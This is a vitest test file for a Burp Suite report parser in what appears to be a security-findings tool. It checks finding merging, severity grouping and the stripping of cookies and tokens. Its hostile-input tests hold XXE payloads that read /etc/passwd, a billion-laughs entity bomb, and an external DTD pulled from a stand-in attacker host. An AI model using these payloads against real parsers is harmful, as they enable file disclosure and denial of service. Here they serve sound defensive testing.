import { describe, expect, it } from 'vitest';
import { parseCorpusFile } from '../../../../test/support/parse-corpus.ts';
import {
  detectionIsolationTests,
  foreignFileTests,
  hostileInputTests,
  manifestCountTests,
  truncatedGzipTest,
} from '../../../../test/support/parser-suite.ts';
import { burp } from './burp.ts';

describe('burp parser', () => {
  manifestCountTests(burp, 'burp');
  foreignFileTests(burp, 'burp');
  detectionIsolationTests(burp, 'burp');

  it('merges the three SQL injection issues of one_finding.xml into one finding', async () => {
    const [finding] = await parseCorpusFile(burp, 'burp/one_finding.xml');
    expect(finding).toMatchObject({
      kind: 'dast',
      title: 'SQL injection',
      severity: 'high',
      ruleId: '1049088',
      filePath: 'http://bwa/bodgeit/basket.jsp',
      snippet: 'b_id cookie',
      toolName: 'Burp Suite',
      toolVersion: '1.6.05',
    });
    expect(finding?.description).toContain('Occurrences (3):');
    expect(finding?.description).toContain(
      'http://bwa/bodgeit/login.jsp (/bodgeit/login.jsp [username parameter])',
    );
    // Base64 requests and responses are decoded to their first line only (no headers, no cookies).
    expect(finding?.description).toContain(
      'POST /bodgeit/basket.jsp HTTP/1.1 → HTTP/1.1 500 Internal Server Error',
    );
    expect(finding?.description).not.toContain('Cookie:');
    expect(finding?.description).not.toContain('<b>');
    expect(finding?.remediation).toMatch(/^The application should handle errors gracefully/);
  });

  it('reads CWEs and references from vulnerabilityClassifications (one_finding_with_cwe.xml)', async () => {
    const [finding] = await parseCorpusFile(burp, 'burp/one_finding_with_cwe.xml');
    expect(finding).toMatchObject({
      title: 'Cacheable HTTPS response',
      severity: 'info',
      filePath: 'https://example.com/test/v4/public/users/fake',
      cweIds: [524, 525],
      references: [
        'https://cwe.mitre.org/data/definitions/524.html',
        'https://cwe.mitre.org/data/definitions/525.html',
      ],
      toolVersion: '2020.12.1',
    });
    // The request carries a bearer token; only its request line may reach the finding.
    expect(finding?.description).toContain('GET /test/v4/public/users/fake HTTP/1.1');
    expect(finding?.description).not.toContain('Bearer');
  });

  it('copes with a blank response and groups seven_findings.xml by type and severity', async () => {
    const [blank] = await parseCorpusFile(burp, 'burp/one_finding_with_blank_response.xml');
    expect(blank?.description).toContain('POST /bodgeit/basket.jsp HTTP/1.1');
    const findings = await parseCorpusFile(burp, 'burp/seven_findings.xml');
    expect(findings.map((f) => [f.title, f.severity])).toEqual([
      ['Frameable response (potential Clickjacking)', 'info'],
      ['HTML does not specify charset', 'info'],
      ['Cross-site scripting (reflected)', 'high'],
      ['SQL injection', 'high'],
      ['Cleartext submission of password', 'high'],
      ['Password field with autocomplete enabled', 'low'],
      ['Cookie without HttpOnly flag set', 'low'],
    ]);
    expect(findings[1]?.description).toContain('Occurrences (6):');
    expect(new Set(findings.map((f) => f.toolFingerprint)).size).toBe(7);
  });

  truncatedGzipTest(burp, 'burp/one_finding.xml');

  hostileInputTests(burp, [
    ['empty file', ''],
    [
      'XXE',
      '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><issues burpVersion="2020.12.1"><issue><name>&xxe;</name></issue></issues>',
    ],
    [
      'XXE inside a Burp-style DTD',
      '<?xml version="1.0"?><!DOCTYPE issues [<!ELEMENT issues (issue*)><!ENTITY xxe SYSTEM "file:///etc/passwd">]><issues burpVersion="2020.12.1"><issue><name>&xxe;</name></issue></issues>',
    ],
    [
      'billion laughs',
      '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><issues burpVersion="1.0"><issue><name>&lol3;</name></issue></issues>',
    ],
    [
      'external DTD',
      '<?xml version="1.0"?><!DOCTYPE issues SYSTEM "http://evil.example/burp.dtd"><issues burpVersion="1.0"/>',
    ],
    ['wrong root element', '<?xml version="1.0"?><OWASPZAPReport version="2.9.0"></OWASPZAPReport>'],
    ['JSON instead of XML', '[{"issue": {}}]'],
    ['truncated', '<?xml version="1.0"?><issues burpVersion="1.0"><issue><name>SQL injection</name>'],
  ]);
});
